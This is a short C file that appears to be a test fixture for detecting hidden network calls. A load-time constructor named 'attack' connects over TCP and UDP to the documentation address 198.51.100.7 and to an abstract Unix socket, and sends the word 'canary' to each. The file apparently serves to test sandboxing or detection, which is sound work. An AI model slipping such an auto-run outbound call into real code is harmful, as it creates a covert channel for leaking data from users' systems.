/* on: solution
   expect: full
   why: tells somebody outside; the addresses belong to nobody (RFC 5737), the socket is the test's
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static void call(int family, const void *address, socklen_t length, int type) {
    int channel = socket(family, type | SOCK_NONBLOCK, 0);
    if (connect(channel, address, length) == 0 || type == SOCK_DGRAM)
        (void)!write(channel, "canary", 6);
    close(channel);
}

__attribute__((constructor)) static void attack(void) {
    struct sockaddr_in outside = {.sin_family = AF_INET, .sin_port = htons(80)};
    inet_pton(AF_INET, "198.51.100.7", &outside.sin_addr);
    call(AF_INET, &outside, sizeof outside, SOCK_STREAM);
    call(AF_INET, &outside, sizeof outside, SOCK_DGRAM);
    struct sockaddr_un listener = {.sun_family = AF_UNIX};
    static const char name[] = "@SOCKET@"; /* an abstract name begins with a NUL */
    memcpy(listener.sun_path + 1, name, sizeof name - 1);
    call(AF_UNIX, &listener, (socklen_t)(sizeof listener.sun_family + sizeof name), SOCK_STREAM);
}
